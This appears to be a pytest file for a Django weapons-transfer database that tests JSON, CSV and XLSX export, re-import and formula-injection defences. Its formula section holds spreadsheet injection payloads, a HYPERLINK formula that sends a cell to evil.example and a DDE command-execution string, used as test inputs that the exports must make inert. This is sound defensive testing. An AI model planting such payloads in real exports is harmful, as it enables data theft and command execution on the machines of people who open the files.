"""Export to JSON, CSV and XLSX with citations; an export re-imports into an empty database
to equal records."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from inventory.choices import PartyKind
from inventory.models import Country, WeaponSystem
from inventory.services import country_create, weapon_system_create
from transfers.exporters import export_csv, export_document, export_json, export_xlsx
from transfers.importers import import_file
from transfers.models import Authorization, Citation, Expenditure, Holding, Pledge, Source, Transfer
from transfers.services import record_create

from . import import_fixtures as fx

pytestmark = pytest.mark.django_db(transaction=False)
MODELS = (Holding, Pledge, Transfer, Expenditure, Authorization)


def hand_entered():
    """Records entered by hand (no external id), of every type, with citations."""
    family = weapon_system_create(name="ATACMS", aliases=["MGM-140"], range_km=300)
    variant = weapon_system_create(name="ATACMS Block IA", parent=family)
    group = country_create(code="HXQ", name="Some Group", kind=PartyKind.NON_STATE)
    ua, us = Country.objects.get(code="UA"), Country.objects.get(code="US")
    source = {
        "url": "https://example.org/news/atacms?utm_source=x",
        "title": "A report",
        "reliability": "B",
        "published_on": dt.date(2024, 11, 1),  # a month, no time: it stays so
        "published_precision": "month",
    }
    cite = [
        {"source": source, "excerpt": "dozens more", "attribution": "anonymous", "credibility": 2}
    ]
    pledge = record_create(
        model=Pledge, recipient=ua, system=variant, quantity_text="dozens", citations=cite
    )
    record_create(
        model=Transfer,
        donor=us,
        recipient=ua,
        system=variant,
        quantity_text="at least 20",
        date=dt.date(2024, 11, 1),
        date_precision="month",
        pledge=pledge,
        citations=cite,
    )
    record_create(
        model=Holding, holder=group, system=family, quantity_text="some", kind="in_inventory"
    )
    record_create(
        model=Expenditure,
        holder=ua,
        system=variant,
        quantity_text="unknown",
        kind="launched",
        citations=cite,
    )
    record_create(
        model=Authorization,
        grantor=us,
        holder=ua,
        system=family,
        scope="parts of Russia",
        date=dt.date(2024, 11, 17),
        citations=cite,
    )


def comparable(systems_in_full=True):
    """Every record as plain values (no ids, no timestamps), with its citations."""
    result = {}
    for model in MODELS:
        rows = []
        for record in model.objects.all():
            row = {}
            for field in record._meta.concrete_fields:
                if field.name in ("id", "created_at", "updated_at"):
                    continue
                value = getattr(record, field.name)
                if isinstance(value, Country):
                    value = value.code
                elif isinstance(value, WeaponSystem):
                    value = (
                        (
                            value.name,
                            value.parent.name if value.parent_id else "",
                            str(value.range_km),
                        )
                        if systems_in_full
                        else value.name
                    )
                elif isinstance(value, Pledge):
                    value = (value.system.name, value.quantity_text)
                row[field.name] = value
            row["citations"] = sorted(
                (
                    c.source.url_canonical,
                    c.source.title,
                    c.source.reliability,
                    c.source.published_on,
                    c.source.published_precision,
                    c.source.published_at,
                    c.excerpt,
                    c.locator,
                    c.attribution,
                    c.credibility,
                )
                for c in record.citations.all()
            )
            rows.append(row)
        result[model.__name__] = sorted(rows, key=repr)
    return result


def wipe():
    from stock.models import (
        EstimatePoint,
        LedgerEntry,
        MatchDecision,
        Movement,
        MovementReport,
        StaleEstimate,
        StockEstimate,
    )

    derived_models = (LedgerEntry, StaleEstimate, StockEstimate, EstimatePoint)
    for derived in (MovementReport, MatchDecision, Movement, *derived_models):
        derived.objects.all().delete()
    Citation.objects.all().delete()
    for model in (Transfer, Pledge, Holding, Expenditure, Authorization):
        model.objects.all().delete()
    Source.objects.all().delete()
    WeaponSystem.objects.filter(parent__isnull=False).delete()
    WeaponSystem.objects.all().delete()
    Country.objects.filter(code__in=["HXQ"]).delete()
    Country.objects.filter(kind=PartyKind.NON_STATE, aliases__isnull=True).delete()


@pytest.mark.parametrize("fmt", ["stockpile", "stockpile-csv"])
def test_an_export_reimports_into_an_empty_database_to_equal_records(fmt):
    hand_entered()
    assert import_file("sipri", fx.sipri_2026()).written
    assert import_file("oryx-supplied", fx.oryx_supplied()).written
    full = fmt == "stockpile"  # a CSV names systems only; the JSON document describes them
    before = comparable(full)
    data = export_json() if fmt == "stockpile" else export_csv()
    wipe()
    assert not Transfer.objects.exists()
    report = import_file(fmt, data)
    assert report.written, report.summary()
    assert comparable(full) == before
    again = import_file(fmt, data)
    assert again.totals()["created"] == 0 and again.totals()["updated"] == 0
    assert comparable(full) == before


def test_the_json_document_carries_citations_systems_and_parties():
    hand_entered()
    document = export_document()
    transfer = document["records"]["transfer"][0]
    assert transfer["donor"] == "US" and transfer["pledge"].startswith("id:pledge:")
    citation = transfer["citations"][0]
    assert citation["excerpt"] == "dozens more"
    assert citation["source"]["url"].startswith("https://example.org/news/atacms")
    systems = {s["name"]: s for s in document["systems"]}
    assert systems["ATACMS Block IA"]["parent"] == "ATACMS"
    assert ["MGM-140", "name"] in systems["ATACMS"]["aliases"]
    assert [p["code"] for p in document["parties"]] == ["HXQ"]


def test_xlsx_has_a_sheet_per_record_type():
    from openpyxl import load_workbook

    hand_entered()
    book = load_workbook(io.BytesIO(export_xlsx()))
    assert book.sheetnames == [
        "holding",
        "pledge",
        "transfer",
        "expenditure",
        "authorization",
        "policy",
    ]
    header = [cell.value for cell in book["transfer"][1]]
    assert "citations" in header and "donor" in header


def test_the_export_command_writes_each_format(tmp_path):
    hand_entered()
    for fmt in ("json", "csv", "xlsx"):
        out = tmp_path / f"all.{fmt}"
        call_command("export", "--format", fmt, "-o", str(out), stderr=io.StringIO())
        assert out.stat().st_size > 100
    one = tmp_path / "transfers.json"
    call_command("export", "--type", "transfer", "-o", str(one), stderr=io.StringIO())
    records = json.loads(one.read_text())["records"]
    assert len(records["transfer"]) == 1 and records["holding"] == []


def test_admin_exports_a_selection_and_a_whole_type(editor_client):
    hand_entered()
    pk = Transfer.objects.get().pk
    response = editor_client.post(
        reverse("admin:transfers_transfer_changelist"),
        {"action": "export_selected_csv", "_selected_action": [pk]},
    )
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    assert b"dozens more" in response.content
    response = editor_client.get(reverse("admin:transfers_export", args=["pledge", "json"]))
    assert json.loads(response.content)["records"]["pledge"][0]["recipient"] == "UA"
    changelist = editor_client.get(reverse("admin:transfers_transfer_changelist"))
    assert b"Import a dataset" in changelist.content and b"Export XLSX" in changelist.content


# -- formulas (issue 14, part 3) -------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'plain apostrophe",
]


def formula_records():
    ua = Country.objects.get(code="UA")
    system = weapon_system_create(name="=cmd|' /C calc'!A0")
    for text in FORMULAS:
        record_create(model=Pledge, recipient=ua, system=system, quantity_text="5", notes=text)


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_exports_make_formula_cells_inert():
    formula_records()
    rows = list(csv.reader(io.StringIO(export_csv().decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(_dangerous(cell) for cell in cells)
    assert "'" + FORMULAS[0] in cells and "''plain apostrophe" in cells


def test_xlsx_exports_hold_no_formula():
    from openpyxl import load_workbook

    formula_records()
    book = load_workbook(io.BytesIO(export_xlsx()))
    cells = [cell for row in book["pledge"].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not any(_dangerous(cell.value) for cell in cells)


def test_the_admin_and_the_api_csv_use_the_same_rule(editor_client, api_client_for, editor):
    formula_records()
    admin_csv = editor_client.get(reverse("admin:transfers_export", args=["pledge", "csv"]))
    api_csv = api_client_for(editor).get("/api/v1/pledges/?format=csv")
    for body in (admin_csv.content, api_csv.content):
        cells = [c for row in csv.reader(io.StringIO(body.decode())) for c in row]
        assert not any(_dangerous(cell) for cell in cells)
        assert "'" + FORMULAS[0] in cells


def test_formula_cells_survive_the_csv_round_trip():
    formula_records()
    before = comparable(systems_in_full=False)
    data = export_csv()
    wipe()
    report = import_file("stockpile-csv", data)
    assert report.written, report.summary()
    assert comparable(systems_in_full=False) == before
    assert sorted(Pledge.objects.values_list("notes", flat=True)) == sorted(FORMULAS)
